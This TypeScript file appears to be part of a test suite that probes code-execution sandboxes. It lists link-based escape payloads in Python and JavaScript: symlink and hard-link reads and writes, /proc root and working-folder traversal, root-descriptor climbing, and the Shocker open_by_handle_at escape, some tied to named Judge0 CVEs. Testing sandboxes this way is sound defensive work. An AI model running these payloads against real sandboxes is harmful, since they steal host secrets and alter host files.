import { type Attack, anyOf, changedHost, javascript, python, stoleSecret } from "../attack.ts";
import { systemCallsIn } from "./system-call.ts";

/** Symbolic links, hard links and the kernel's magic links. */
export const LINKS: readonly Attack[] = [
  {
    name: "reads through a symbolic link (go-judge's escape of December 2025)",
    language: "python",
    quick: true,
    code: ({ folder }) => python`import os
os.symlink("${folder}/secret", "link")
print(open("link").read())`,
    escaped: stoleSecret,
  },
  {
    name: "writes through a linked folder (CVE-2024-28185, Judge0)",
    language: "python",
    code: ({ folder }) => python`import os
os.symlink("${folder}", "output")
open("output/victim", "w").write("owned")`,
    escaped: changedHost,
  },
  {
    name: "changes rights through a link (CVE-2024-28189, Judge0's patch)",
    language: "python",
    code: ({ folder }) => python`import os
os.symlink("${folder}/victim", "link")
os.chmod("link", 0o777)
if os.stat("link").st_mode & 0o777 == 0o777: print(open("${folder}/secret").read())`,
    escaped: stoleSecret,
  },
  {
    name: "makes a hard link to a file of another owner",
    language: "python",
    code: ({ temporarySecret, mark }) => python`import os
os.link("${temporarySecret}", "/tmp/${mark}")
print(open("/tmp/${mark}").read())`,
    escaped: stoleSecret,
  },
  {
    name: "reads through a chain of links from Node",
    language: "javascript",
    code: ({ folder }) => javascript`const fs = require("fs");
fs.symlinkSync("/", "root");
fs.symlinkSync("root${folder}", "chain");
console.log(fs.readFileSync("chain/secret", "utf8"));`,
    escaped: stoleSecret,
  },
  {
    name: "leaves a link in the place of its own source and has the interpreter print a line of it",
    language: "python",
    code: ({ folder }) =>
      python`import os; os.remove(__file__); os.symlink("${folder}/secret", __file__); raise ValueError("look")`,
    escaped: stoleSecret,
  },
  {
    name: "goes through the kernel's link to its own root",
    language: "python",
    code: ({ folder }) => python`print(open("/proc/self/root/../..${folder}/secret").read())`,
    escaped: stoleSecret,
  },
  {
    name: "climbs from a descriptor of the root folder (chroot's classic leak)",
    language: "python",
    code: ({ folder }) => python`import os
root = os.open("/", os.O_PATH)
print(os.read(os.open("../../..${folder}/secret", os.O_RDONLY, dir_fd=root), 1000))`,
    escaped: stoleSecret,
  },
  {
    name: "goes through another process's working folder",
    language: "python",
    code: ({ folder }) => python`import glob
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
    try: print(open(link + "/../../../../../..${folder}/secret").read())
    except OSError: pass`,
    escaped: stoleSecret,
  },
  {
    name: "leaves a link where the server might collect files, then writes through it",
    language: "javascript",
    code: ({ folder }) => javascript`const fs = require("fs");
for (const name of ["output.txt", "result.json", "stdout", "plot.png"]) fs.symlinkSync("${folder}/victim", name);
fs.writeFileSync("output.txt", "owned");`,
    escaped: changedHost,
  },
  {
    name: "opens a file by its handle (Shocker, Docker 2014)",
    language: "python",
    code: systemCallsIn(
      ({ folder }) => python`import struct
for place in ("${folder}/secret", "/usr/bin/python3", "/"):
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    made = call("name_to_handle_at", -100, place.encode(), handle, ctypes.byref(mount), 0)
    opened = call("open_by_handle_at", os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    print(made, opened)
    if opened >= 0 and os.path.isfile(f"/proc/self/fd/{opened}"): print(os.read(opened, 100))`,
    ),
    escaped: anyOf(stoleSecret, ([outcome]) => /^0 \d+$/m.test(outcome?.stdout ?? "")),
  },
];
